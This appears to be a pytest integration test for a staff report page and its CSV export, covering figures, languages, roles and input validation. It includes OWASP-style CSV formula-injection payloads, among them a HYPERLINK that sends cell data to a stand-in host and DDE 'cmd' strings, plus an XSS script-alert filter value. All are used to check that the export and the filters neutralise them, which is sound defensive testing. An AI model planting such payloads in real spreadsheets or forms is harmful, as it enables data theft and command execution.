"""The report in the staff workspace, over HTTP under moto: a seeded year's figures on the page
and in its CSV, checked against counts this test makes from its own seed; every filter, hostile
ones too; every role; read by index, never a Scan."""

from __future__ import annotations

import copy
import csv
import html
import io
import json
import re
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any, NamedTuple

import pytest

from functions.adapters.repository import repository
from functions.domain import clock, schemas
from functions.domain.experts import Invitation, InvitationStatus, Places
from functions.domain.reference import (
    ACTIVITY_TYPES,
    DELIVERABLE_KINDS,
    PARTICIPANT_SEXES,
    SATISFACTION_SCALE,
    country_names,
    reference_data,
)
from functions.presentation.i18n import gettext_for
from functions.presentation.spreadsheet import FORMULA_STARTS
from functions.services import experts
from infra.local.sample_data import clock_at
from tests.integration.helpers import JSON, Browser, record_operations
from tests.integration.staff import ROLE_USER, signed_in, staff_accounts
from tests.integration.test_results_report import NOW, YEAR, Seeded, seed_year
from tests.support import Stack

# Institution names a spreadsheet would run as formulas (OWASP's CSV injection list).
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Experts deployed in the year: member state, gender, the activity of which Action (by index).
DEPLOYED = [
    ("FR", "female", 0),
    ("FR", "male", 0),
    ("DE", "female", 1),
    ("ES", "prefer_not_to_say", 1),
]

SAME_WORD = {("fr", "Participants"), ("es", "No")}  # the same word in English and there


class Year(NamedTuple):
    """The seeded year, what this test added to it, and a browser per role."""

    seeded: Seeded
    hostile: list[str]  # the ids of the requests with hostile institution names
    deployed: list[tuple[str, str, str]]  # member state, gender, the Action's region
    browsers: dict[str, Browser]


def _deploy(seeded: Seeded) -> list[tuple[str, str, str]]:
    """Accepted invitations to the first activity of two seeded Actions, in the year."""
    store = repository()
    found = []
    for number, (state, gender, action_index) in enumerate(DEPLOYED):
        action = seeded.actions[action_index % len(seeded.actions)]
        request = store.get_request(action["id"])
        assert request is not None
        at = datetime(YEAR, 10, 1 + number, 9, tzinfo=UTC)
        document = schemas.example("expert.schema.json")
        document.pop("submission_id", None)
        email = f"expert{number}@example.{state.lower()}"
        document["expert"].update(member_state=state, gender=gender, email=email)
        expert_id = experts.register(document).expert_id
        invitation = Invitation(
            action["id"],
            1,
            expert_id,
            InvitationStatus.INVITED.value,
            clock.iso(at),
            clock.iso(at + timedelta(days=7)),
            state,
            gender,
            "operator",
            activity_type=action["plan"]["activities"][0]["type"],
            reference=request.reference,
        )
        store.invite([invitation], Places(action["id"], 1, 10))
        assert store.accept_invitation(invitation, clock.iso(at + timedelta(hours=1))) == (
            "accepted"
        )
        found.append((state, gender, action["region"]))
    return found


@pytest.fixture
def year(
    client: Any, stack: Stack, valid_request: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> Year:
    staff_accounts(stack, monkeypatch)
    seeded = seed_year()
    hostile = []
    for number, name in enumerate(HOSTILE_NAMES):
        document = copy.deepcopy(valid_request)
        document["institution"]["name"] = name
        document["submission_id"] = f"0f5c3a52-5f8e-4d6e-9c55-9d1b5a0c2b{number:02d}"
        with clock_at(datetime(YEAR, 12, 2 + number, 10, tzinfo=UTC)):
            answer = client.http.post("/requests", body=json.dumps(document), headers=JSON)
        # A carriage return is a control character the form refuses (domain/text.py); a tab is
        # taken as white space; the others are stored as the partner wrote them.
        if answer.status_code == 422:
            assert name.startswith("\r"), answer.body
        else:
            assert answer.status_code == 201, answer.body
            hostile.append(json.loads(answer.body)["id"])
    deployed = _deploy(seeded)
    browsers = {role: signed_in(client, user) for role, user in ROLE_USER.items()}
    return Year(seeded, hostile, deployed, browsers)


def regions_of(found: Year) -> Counter[str]:
    """Requests by region, counted from the seed (the hostile ones are Senegal's: Africa)."""
    countries = reference_data().countries
    counts = Counter(countries[s.country].region for s in found.seeded.samples)
    counts["africa"] += len(found.hostile)
    return counts


Tables = dict[str, dict[str, list[str]]]


def page_tables(text: str) -> Tables:
    """Every chart's table on the page: chart key -> label -> cells (isolates taken off)."""
    found: Tables = {}
    for key, section in re.findall(
        r'<section class="report-chart" id="chart-(\w+)"(.*?)</section>', text, re.S
    ):
        rows = re.findall(r'<tr><th scope="row">(.*?)</th>(.*?)</tr>', section)
        found[key] = {
            html.unescape(re.sub(r"</?bdi[^>]*>", "", label)): [
                html.unescape(re.sub(r"</?bdi[^>]*>", "", cell))
                for cell in re.findall(r'<td class="number">(.*?)</td>', cells)
            ]
            for label, cells in rows
        }
    return found


def csv_tables(text: str) -> dict[str, dict[str, str]]:
    found: dict[str, dict[str, str]] = {}
    for row in csv.DictReader(io.StringIO(text)):
        found.setdefault(row["chart"], {})[row["label"]] = row["shown"]
    return found


def get_page(browser: Browser, query: str) -> tuple[int, str]:
    answer = browser.get(f"/staff/reports{query}")
    return answer.status_code, answer.body.decode("utf-8")


def done_of(found: Year, region: str | None = None) -> list[dict[str, Any]]:
    return [
        a
        for action in found.seeded.actions
        if region is None or action["region"] == region
        for a in action["plan"]["activities"]
        if a.get("status") == "done" and a["ends_on"].startswith(str(YEAR))
    ]


def check_every_region(found: Year, tables: Tables | dict[str, dict[str, str]]) -> None:
    """The figures of every region against the seed (page cells or CSV values)."""

    def shown(key: str) -> dict[str, str]:
        table = tables[key]
        return {label: v[0] if isinstance(v, list) else v for label, v in table.items()}

    regions = reference_data().regions
    by_region = regions_of(found)
    assert shown("region") == {name: str(by_region[code]) for code, name in regions.items()}
    statuses = found.seeded.statuses
    assert shown("outcomes") == {
        "Approved": str(statuses["approved"]),
        "Rejected": str(statuses["rejected"]),
        "Withdrawn": str(statuses["withdrawn"]),
    }
    done = done_of(found)
    by_type = Counter(a["type"] for a in done)
    assert shown("activity_type") == {name: str(by_type[c]) for c, name in ACTIVITY_TYPES.items()}
    names = country_names("en")
    assert shown("activity_country") == {
        names[c]: str(n) for c, n in Counter(a["place"]["country"] for a in done).items()
    }
    people: Counter[str] = Counter()
    kinds: Counter[str] = Counter()
    for activity in done:
        people.update(activity["outcome"]["participants"])
        kinds.update(d["kind"] for d in activity["outcome"]["deliverables"])
    assert shown("participants") == {name: str(people[c]) for c, name in PARTICIPANT_SEXES.items()}
    assert shown("deliverables") == {name: str(kinds[c]) for c, name in DELIVERABLE_KINDS.items()}
    ended = {
        (action["id"], number)
        for action in found.seeded.actions
        for number, a in enumerate(action["plan"]["activities"], start=1)
        if a["ends_on"].startswith(str(YEAR))
    }
    scores = Counter(a[2] for a in found.seeded.answers if (a[0], a[1]) in ended)
    assert shown("satisfaction") == {
        SATISFACTION_SCALE[str(s)]: str(scores[s]) for s in (5, 4, 3, 2, 1)
    }
    states = Counter(state for state, _, _ in found.deployed)
    member_states = reference_data().member_states
    assert shown("experts_member_state") == {member_states[s]: str(n) for s, n in states.items()}
    genders = Counter(gender for _, gender, _ in found.deployed)
    labels = {**reference_data().genders, "unknown": "Not given"}
    assert shown("experts_gender") == {labels[g]: str(n) for g, n in genders.items()}


def test_a_seeded_year_in_every_region_one_region_and_five_languages(
    year: Year, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One seeded year (seeding takes a while) for every check of the figures."""
    check_page_and_csv(year, monkeypatch)
    check_one_region(year)
    for language in ("fr", "es", "ar", "ru"):
        check_language(year, language)


def check_page_and_csv(year: Year, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = record_operations(monkeypatch)
    with clock_at(NOW):
        status, text = get_page(year.browsers["viewer"], f"?year={YEAR}&region=all&lang=en")
    assert status == 200, text
    assert ("Scan", "") not in calls
    assert {op for op, _ in calls} <= {"Query", "GetItem"}
    regions = len(reference_data().regions)
    assert calls.count(("Query", "region-index")) == regions + 1  # + the year's deployments
    evaluated = {
        action["id"]
        for action in year.seeded.actions
        for a in action["plan"]["activities"]
        if a.get("status") == "done" and a["ends_on"].startswith(str(YEAR))
    }
    # The year's Actions (one), their evaluations (one each), the session's officer record.
    assert calls.count(("Query", "")) <= 1 + len(evaluated) + 1
    assert calls.count(("Query", "roster-index")) == 27 * 3
    tables = page_tables(text)
    check_every_region(year, tables)
    assert len(tables) == 21 and text.count("<svg") == 21
    # Nothing the Content-Security-Policy refuses: no inline script, no style attribute.
    assert not re.search(r"<script(?![^>]*\bsrc=)", text) and "style=" not in text
    total = sum(regions_of(year).values())
    assert f'<strong><bdi dir="ltr">{total}</bdi></strong>' in text
    assert "What this page read" in text

    with clock_at(NOW):
        answer = year.browsers["viewer"].get(f"/staff/reports/export.csv?year={YEAR}&region=all")
    assert answer.status_code == 200
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="mieux-report-{YEAR}-all-en.csv"'
    )
    raw = answer.body
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark (spreadsheet.py)
    body = raw.decode("utf-8").removeprefix("\ufeff")
    check_every_region(year, csv_tables(body))
    for row in csv.reader(io.StringIO(body)):
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell  # neutralised: '- for a dash
    assert all(name.strip() not in body for name in HOSTILE_NAMES)  # no free text in the report


def check_one_region(year: Year) -> None:
    region = "africa"
    with clock_at(NOW):
        status, text = get_page(year.browsers["officer"], f"?year={YEAR}&region={region}")
    assert status == 200, text
    tables = page_tables(text)
    name = reference_data().regions[region]
    assert {k: v[0] for k, v in tables["region"].items()} == {name: str(regions_of(year)[region])}
    countries = reference_data().countries
    statuses = Counter(
        s.outcome for s in year.seeded.samples if countries[s.country].region == region
    )
    assert tables["outcomes"]["Approved"] == [str(statuses["approved"])]
    assert tables["outcomes"]["Rejected"] == [str(statuses["rejected"])]
    done = done_of(year, region)
    by_type = Counter(a["type"] for a in done)
    assert {k: v[0] for k, v in tables["activity_type"].items()} == {
        label: str(by_type[code]) for code, label in ACTIVITY_TYPES.items()
    }
    deployed = Counter(g for _, g, r in year.deployed if r == region)
    shown = {k: v[0] for k, v in tables.get("experts_gender", {}).items()}
    labels = {**reference_data().genders, "unknown": "Not given"}
    assert shown == {labels[g]: str(n) for g, n in deployed.items()}
    assert f'value="{region}" selected' in text


def check_language(year: Year, language: str) -> None:
    translate = gettext_for(language)
    with clock_at(NOW):
        status, text = get_page(year.browsers["viewer"], f"?year={YEAR}&lang={language}")
        english = page_tables(get_page(year.browsers["viewer"], f"?year={YEAR}&lang=en")[1])
    assert status == 200
    tables = page_tables(text)
    assert list(tables) == list(english)
    for title in ("Requests by region", "Participants, by sex", "Experts deployed by gender"):
        assert translate(title) != title and html.escape(translate(title), quote=False) in text
    for key, table in english.items():
        # The same figures, every label in the language (references and numbers stay).
        assert [cells for cells in tables[key].values()] == list(table.values()), key
        if key in ("activity_country", "experts_member_state", "roster"):
            # Countries and member states by their names in the language (CLDR's).
            assert set(tables[key]) <= set(country_names(language).values()), key
            continue
        for label, translated in zip(table, tables[key], strict=True):
            if label[:1].isalpha() and not re.match(r"^[A-Z]{2,}-", label):
                assert translated == translate(label), (key, label)
                assert translated != label or (language, label) in SAME_WORD, (key, label)
    if language == "ar":
        assert 'dir="rtl"' in text
        assert '<div class="report-drawing" dir="ltr">' in text  # the bars drawn left to right
        assert re.search(r'<td class="number"><bdi dir="ltr">\d', text)
    with clock_at(NOW):
        answer = year.browsers["viewer"].get(
            f"/staff/reports/export.csv?year={YEAR}&lang={language}"
        )
    body = answer.body.decode("utf-8").removeprefix("\ufeff")
    assert translate("Requests by region") in body
    assert f"mieux-report-{YEAR}-all-{language}.csv" in answer.headers["Content-Disposition"]


HOSTILE_FILTERS = [
    ("year=abc", "year"),
    ("year=99999", "year"),
    ("year=1999", "year"),
    ("year=-2026", "year"),
    ("year=0202612345", "year"),
    ("year=02026", "year"),
    ("year=20%0A26", "year"),
    ("year=2026.5", "year"),
    ("year=%D9%A2%D9%A0%D9%A2%D9%A6", "year"),  # Arabic-Indic digits: digits, not a year here
    ("year=" + "9" * 5000, "year"),
    ("region=%3Cscript%3Ealert(1)%3C/script%3E", "region"),
    ("region=" + "a" * 20000, "region"),
    ("region=africa%00", "region"),
]


@pytest.mark.parametrize(("query", "field"), HOSTILE_FILTERS)
def test_a_filter_that_is_not_one_is_a_clear_error_at_its_field(
    client: Any, stack: Stack, monkeypatch: pytest.MonkeyPatch, query: str, field: str
) -> None:
    staff_accounts(stack, monkeypatch)
    browser = signed_in(client, ROLE_USER["viewer"])
    calls = record_operations(monkeypatch)
    for path in ("/staff/reports", "/staff/reports/export.csv"):
        answer = browser.get(f"{path}?{query}")
        text = answer.body.decode("utf-8")
        assert answer.status_code == 400, (path, query)
        assert answer.headers["Content-Type"].startswith("text/html")
        assert f'<p class="error-message" id="{field}-error">' in text
        assert f'href="#{field}"' in text  # the summary links to the field
        assert "<script>alert" not in text
    assert not [c for c in calls if c[1] in ("region-index", "roster-index")]  # nothing read


@pytest.mark.parametrize(
    "query",
    [
        "",
        "?year=",
        "?region=",
        "?region=all",
        "?year=2026&region=asia_pacific",
        "?other=" + "x" * 3000,
    ],
)
def test_no_filter_is_this_year_every_region(
    client: Any, stack: Stack, monkeypatch: pytest.MonkeyPatch, query: str
) -> None:
    staff_accounts(stack, monkeypatch)
    browser = signed_in(client, ROLE_USER["viewer"])
    with clock_at(datetime(2026, 5, 1, tzinfo=UTC)):
        answer = browser.get(f"/staff/reports{query}")
        text = answer.body.decode("utf-8")
        assert answer.status_code == 200, text
        assert '<option value="2026" selected>' in text
        assert "Report <bdi" in text and "2026" in text
        assert browser.get(f"/staff/reports/export.csv{query}").status_code == 200


@pytest.mark.parametrize("role", list(ROLE_USER))
def test_every_role_reads_the_report(
    client: Any, stack: Stack, monkeypatch: pytest.MonkeyPatch, role: str
) -> None:
    staff_accounts(stack, monkeypatch)
    browser = signed_in(client, ROLE_USER[role])
    answer = browser.get("/staff/reports")
    assert answer.status_code == 200
    assert 'href="/staff/reports?lang=en" aria-current="page"' in answer.body.decode("utf-8")
    assert browser.get("/staff/reports/export.csv").status_code == 200


@pytest.mark.parametrize("path", ["/staff/reports", "/staff/reports/export.csv?year=2026"])
def test_without_a_session_the_report_leads_to_the_sign_in_page(client: Any, path: str) -> None:
    answer = client.http.get(path)
    assert answer.status_code == 303
    assert answer.headers["Location"].startswith("/staff/sign-in?next=")


def test_every_year_and_region_the_form_offers_is_accepted(
    client: Any, stack: Stack, monkeypatch: pytest.MonkeyPatch
) -> None:
    staff_accounts(stack, monkeypatch)
    browser = signed_in(client, ROLE_USER["officer"])
    with clock_at(datetime(2026, 5, 1, tzinfo=UTC)):
        text = browser.get("/staff/reports").body.decode("utf-8")
        years = re.findall(r'<option value="(\d{4})"', text)
        regions = re.findall(r'<option value="([a-z_]+)"', text)
        assert years == [str(y) for y in range(2026, 2020, -1)]
        assert regions == ["all", *reference_data().regions]
        for year in [*years, "2027", "2000"]:
            assert browser.get(f"/staff/reports?year={year}").status_code == 200, year
        for region in regions:
            answer = browser.get(f"/staff/reports?region={region}&lang=fr")
            assert answer.status_code == 200, region
            assert f'<option value="{region}" selected>' in answer.body.decode() or region == "all"
            csv_answer = browser.get(f"/staff/reports/export.csv?region={region}")
            assert f"mieux-report-2026-{region}-en.csv" in csv_answer.headers["Content-Disposition"]
